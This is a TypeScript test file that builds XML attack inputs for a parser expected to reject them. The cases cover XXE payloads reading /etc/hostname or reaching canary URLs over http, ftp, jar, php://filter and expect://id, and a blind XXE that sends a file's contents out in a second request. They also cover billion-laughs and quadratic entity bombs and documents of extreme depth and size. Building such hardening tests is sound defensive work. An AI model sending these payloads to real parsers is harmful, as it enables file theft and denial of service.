// Document type declarations of all kinds, entity bombs, and documents that are too large or too deep (rows 117–119).
import {
  type DocumentAttack,
  doctype,
  harmless,
  inside,
  notWellFormed,
  octets,
  prolog,
  refusedFor,
  utf8,
  utf16,
} from './document.ts';

const FILE = 'file:///etc/hostname';
const NO_DOCTYPE = 'a document type declaration is not allowed';
const declared = refusedFor(NO_DOCTYPE);
const markup = refusedFor('a markup declaration where none is allowed');

const external = (url: (canary: string) => string): DocumentAttack['build'] =>
  doctype((canary) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url(canary)}">]>`, '&e;');

const DOCTYPES: readonly DocumentAttack[] = [
  declared('row 117 a DOCTYPE that declares nothing', prolog('<!DOCTYPE x>')),
  declared(
    'row 117 an internal subset with an entity that is used',
    doctype(() => '<!DOCTYPE x [<!ENTITY e "e">]>', '&e;'),
  ),
  declared(
    'row 117 XXE file',
    external(() => FILE),
  ),
  declared(
    'row 117 XXE file without scheme',
    external(() => '/etc/hostname'),
  ),
  declared(
    'row 117 XXE http',
    external((canary) => `${canary}/x`),
  ),
  declared(
    'row 117 XXE ftp',
    external((canary) => `${canary.replace('http:', 'ftp:')}/x`),
  ),
  declared(
    'row 117 XXE jar',
    external((canary) => `jar:${canary}/x.jar!/x`),
  ),
  declared(
    'row 117 XXE netdoc',
    external(() => `netdoc:${FILE.slice(5)}`),
  ),
  declared(
    'row 117 XXE php filter',
    external(() => 'php://filter/convert.base64-encode/resource=/etc/hostname'),
  ),
  declared(
    'row 117 XXE expect',
    external(() => 'expect://id'),
  ),
  declared(
    'row 117 XXE data',
    external(() => 'data:text/plain,x'),
  ),
  declared(
    'row 117 XXE with PUBLIC',
    doctype((canary) => `<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "${canary}/x">]>`, '&e;'),
  ),
  declared(
    'row 117 an external subset, http',
    prolog((canary) => `<!DOCTYPE x SYSTEM "${canary}/x.dtd">`),
  ),
  declared(
    'row 117 an external subset, PUBLIC',
    prolog((canary) => `<!DOCTYPE x PUBLIC "-//x" "${canary}/x.dtd">`),
  ),
  declared('row 117 an external subset, file', prolog(`<!DOCTYPE x SYSTEM "${FILE}">`)),
  declared(
    'row 117 a parameter entity from outside',
    prolog((canary) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "${canary}/p.dtd"> %p;]>`),
  ),
  declared(
    'row 117 blind XXE: a file in the URL of a second request',
    prolog(
      (canary) =>
        `<!DOCTYPE x [<!ENTITY % f SYSTEM "${FILE}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '${canary}/?%f;'>">%d;%s;]>`,
    ),
  ),
  declared(
    'row 117 an unparsed entity',
    prolog((canary) => `<!DOCTYPE x [<!NOTATION n SYSTEM "${canary}/n"><!ENTITY e SYSTEM "${canary}/e" NDATA n>]>`),
  ),
  declared('row 117 an ATTLIST that gives every root a default', prolog('<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>')),
  declared('row 117 an ATTLIST that declares an ID', prolog('<!DOCTYPE x [<!ATTLIST x Id ID #IMPLIED>]>')),
  declared('row 117 behind white space', prolog('\n\t \r\n<!DOCTYPE x>')),
  declared('row 117 behind a comment', prolog('<!-- <!-x -><!DOCTYPE y> --><!DOCTYPE x>')),
  declared('row 117 behind a processing instruction', prolog('<?x <!-- ?><!DOCTYPE x><?y -->?>')),
  declared('row 117 behind a declaration and a comment', prolog('<?xml version="1.0"?><!----><!DOCTYPE x>')),
  declared('row 117 behind the root element', ({ text }) => utf8(`${text}<!DOCTYPE x>`)),
  declared(
    'row 117 inside the root element',
    inside(() => '<!DOCTYPE x>'),
  ),
  declared('row 117 that does not end', prolog('<!DOCTYPE x [<!ENTITY e "')),
  declared('row 117 with a line end for a blank', prolog('<!DOCTYPE\nx>')),
  declared(
    'row 117 in UTF-16LE',
    octets((text) => utf16(`<!DOCTYPE x>${text}`, 'LE')),
  ),
  declared(
    'row 117 in UTF-16BE',
    octets((text) => utf16(`<!DOCTYPE x>${text}`, 'BE')),
  ),
  declared('row 117 behind a UTF-8 byte order mark', prolog('\ufeff<!DOCTYPE x>')),
  declared(
    'row 117 in declared ISO-8859-1',
    octets((text) => Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE x>${text}`, 'latin1')),
  ),
  markup('row 117 doctype in lower case', prolog('<!doctype x>')),
  markup('row 117 DocType in mixed case', prolog('<!DocType x [<!ENTITY e "e">]>')),
  markup(
    'row 117 an ENTITY without DOCTYPE',
    prolog((canary) => `<!ENTITY e SYSTEM "${canary}/x">`),
  ),
  markup(
    'row 117 an ELEMENT inside the root element',
    inside(() => '<!ELEMENT x ANY>'),
  ),
  markup('row 117 a conditional section', prolog('<![INCLUDE[<!DOCTYPE x>]]>')),
  harmless('row 117 the word in a comment before the root is text', prolog('<!-- <!DOCTYPE x [ -->')),
  harmless('row 117 the word in a processing instruction is text', prolog('<?x <!DOCTYPE x> ?>')),
];

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const BOMBS: readonly DocumentAttack[] = [
  declared(
    'row 118 billion laughs',
    doctype(() => `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}]>`, '&l9;'),
  ),
  declared(
    'row 118 quadratic blow-up',
    doctype(() => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(50_000)),
  ),
  declared(
    'row 118 an entity that holds itself',
    doctype(() => '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'),
  ),
  declared(
    'row 118 parameter entities that laugh',
    prolog(`<!DOCTYPE x [<!ENTITY % a "${'x'.repeat(1000)}">${'<!ENTITY % b "%a;%a;">'.repeat(1000)}%b;]>`),
  ),
  declared('row 118 an internal subset of 500 kB', prolog(`<!DOCTYPE x [${'<!ENTITY e "e">'.repeat(33_000)}]>`)),
  notWellFormed(
    'row 118 100 000 references to an entity that is not declared',
    inside(() => '&a;'.repeat(100_000)),
  ),
  notWellFormed(
    'row 118 numeric references beyond Unicode',
    inside(() => '&#x7FFFFFFF;'.repeat(50_000)),
  ),
  notWellFormed(
    'row 118 a numeric reference of 500 kB',
    inside(() => `&#${'9'.repeat(500_000)};`),
  ),
  notWellFormed(
    'row 118 numeric references to NUL',
    inside(() => '&#0;'.repeat(100_000)),
  ),
];

const SIZES: readonly DocumentAttack[] = [
  refusedFor('deeper than')(
    'row 119 a depth of 100 000',
    inside(() => '<a>'.repeat(100_000) + '</a>'.repeat(100_000)),
  ),
  refusedFor('deeper than')(
    'row 119 a depth of 100 000 that does not come back',
    inside(() => '<a>'.repeat(100_000)),
  ),
  refusedFor('attributes')(
    'row 119 100 000 attributes of one element',
    inside(() => `<a${Array.from({ length: 100_000 }, (_, i) => ` a${i}=""`).join('')}/>`),
  ),
  refusedFor('namespace declarations in scope')(
    'row 119 300 namespace declarations on 300 levels',
    inside(() => {
      const open = Array.from({ length: 150 }, (_, i) => `<a xmlns:a${i}="u:${i}" xmlns:b${i}="u:${i}">`);
      return open.join('') + '</a>'.repeat(150);
    }),
  ),
  refusedFor('too many elements under too many namespace declarations')(
    'row 119 100 000 elements under 200 namespace declarations',
    inside(() => {
      const declared = Array.from({ length: 200 }, (_, i) => ` xmlns:a${i}="u:${i}"`);
      return `<a${declared.join('')}>${'<b/>'.repeat(100_000)}</a>`;
    }),
  ),
  refusedFor('attributes')(
    'row 119 30 000 namespace declarations of one element',
    inside(() => `<a${Array.from({ length: 30_000 }, (_, i) => ` xmlns:a${i}="u:${i}"`).join('')}/>`),
  ),
  notWellFormed(
    'row 119 50 000 elements that are not closed in order',
    inside(() => '<a></b>'.repeat(50_000)),
  ),
  refusedFor('a start tag does not end')('row 119 a start tag of 500 kB that does not end', ({ text, before }) =>
    utf8(`${text.slice(0, text.lastIndexOf(before))}<a b="${'x'.repeat(500_000)}`),
  ),
  refusedFor('markup does not end')(
    'row 119 a comment that does not end',
    inside(() => `<!--${'- '.repeat(200_000)}`),
  ),
  harmless('row 119 100 000 comments before the root', prolog('<!---->'.repeat(100_000))),
  harmless('row 119 50 000 processing instructions before the root', prolog('<?a b?>'.repeat(50_000))),
  harmless('row 119 500 kB of white space before the root', prolog('\n'.repeat(500_000))),
];

export const DOCTYPE_ATTACKS: readonly DocumentAttack[] = [...DOCTYPES, ...BOMBS, ...SIZES];
